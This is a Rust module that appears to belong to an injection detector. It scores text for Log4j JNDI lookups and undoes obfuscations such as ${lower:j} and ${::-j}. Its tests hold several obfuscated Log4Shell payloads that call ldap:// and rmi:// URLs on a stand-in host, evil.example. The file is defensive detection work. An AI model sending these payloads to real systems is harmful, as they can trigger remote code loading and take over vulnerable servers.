//! Lookups of Log4j: `${jndi:…}` however its letters are spelled.
//!
//! Lookups inside one another are undone as Log4j does: `${lower:J}` is its argument, `${a:b:-c}` its default.

use super::{Best, Hit};

/// How many lookups may be open at once.
const DEPTH: usize = 16;
/// How much of one lookup is spelled out.
const SPELLED: usize = 24;

/// One open lookup.
#[derive(Clone, Copy)]
struct Open {
    start: usize,
    text: [u8; SPELLED],
    length: usize,
    /// Its first bytes, and how many there were in all.
    head: [u8; 6],
    total: usize,
    /// Where its default begins, once `:-` was read.
    default: Option<usize>,
    nested: bool,
}

impl Open {
    fn new(start: usize) -> Self {
        Open { start, text: [0; SPELLED], length: 0, head: [0; 6], total: 0, default: None, nested: false }
    }

    fn push(&mut self, byte: u8) {
        if self.length == SPELLED {
            // The end of a long lookup is what its default is.
            self.text.copy_within(1.., 0);
            self.length -= 1;
            self.default = self.default.map(|at| at.saturating_sub(1));
        }
        if self.total < self.head.len() {
            self.head[self.total] = byte.to_ascii_lowercase();
        }
        self.total += 1;
        self.text[self.length] = byte.to_ascii_lowercase();
        self.length += 1;
        if self.default.is_none() && self.length > 1 && self.text[self.length - 2..self.length] == *b":-" {
            self.default = Some(self.length);
        }
    }

    fn spelled(&self) -> &[u8] {
        &self.text[..self.length]
    }

    /// What the lookup comes to: its default, or the argument of `lower:` and the like.
    fn value(&self) -> &[u8] {
        let text = self.spelled();
        if let Some(default) = self.default {
            return &text[default..];
        }
        text.iter().rposition(|&byte| byte == b':').map_or(b"", |colon| &text[colon + 1..])
    }
}

/// The strongest lookup in `text`.
#[must_use]
pub fn judge(text: &[u8]) -> Option<Hit> {
    let mut best = Best::default();
    let mut open = [Open::new(0); DEPTH];
    let mut depth = 0;
    let mut at = 0;
    while at < text.len() {
        let rest = &text[at..];
        if rest.starts_with(b"${") || rest.starts_with(b"$\\{") {
            if depth == DEPTH {
                best.offer(70, open[0].start..at, "lookups inside lookups");
                depth = 0;
            }
            open[depth] = Open::new(at);
            if depth > 0 {
                open[depth - 1].nested = true;
            }
            depth += 1;
            at += if rest[1] == b'{' { 2 } else { 3 };
            continue;
        }
        if depth > 0 {
            let byte = rest[0];
            if byte == b'}' {
                depth -= 1;
                let closed = open[depth];
                weigh(&closed, at + 1, &mut best);
                if depth > 0 {
                    for &byte in closed.value() {
                        open[depth - 1].push(byte);
                    }
                }
            } else {
                open[depth - 1].push(byte);
                if open[depth - 1].spelled() == b"jndi:" {
                    best.offer(95, open[depth - 1].start..at + 1, "JNDI lookup");
                }
            }
        }
        at += 1;
    }
    while depth > 0 {
        depth -= 1;
        weigh(&open[depth], text.len(), &mut best);
    }
    best.0
}

fn weigh(lookup: &Open, end: usize, best: &mut Best) {
    let starts = |word: &[u8]| lookup.head.starts_with(word);
    let (strength, reason) = if starts(b"jndi:") {
        (97, "JNDI lookup")
    } else if (starts(b"lower:") || starts(b"upper:") || starts(b"::-") || starts(b"date:'")) && lookup.total <= 10 {
        (85, "letters spelled by lookups")
    } else if lookup.default.is_some() && starts(b"env:") && lookup.value().len() <= 2 {
        (80, "letters spelled by lookups")
    } else if lookup.nested && (starts(b"ldap") || starts(b"dns") || starts(b"rmi")) {
        (75, "lookups inside lookups")
    } else if starts(b"env:")
        || starts(b"sys:")
        || starts(b"java:")
        || starts(b"ctx:")
        || starts(b"docker")
        || starts(b"k8s:")
    {
        (40, "lookup")
    } else {
        return;
    };
    best.offer(strength, lookup.start..end, reason);
}

#[cfg(test)]
mod tests {
    use super::super::SURE;
    use super::judge;

    fn strength(text: &str) -> u8 {
        judge(text.as_bytes()).map_or(0, |hit| hit.strength)
    }

    #[test]
    fn lookups_are_undone() {
        for text in [
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://evil.example/a}",
            "${jndi:${lower:l}${lower:d}ap://evil.example}",
        ] {
            assert!(strength(text) >= 90, "{text}: {:?}", judge(text.as_bytes()));
        }
    }

    #[test]
    fn placeholders_are_not() {
        for text in ["${HOME}", "cost: ${price}", "${env:PATH}", "`${user.name}: hi`", "${x:-default value}"] {
            assert!(strength(text) < SURE, "{text}: {:?}", judge(text.as_bytes()));
        }
    }
}
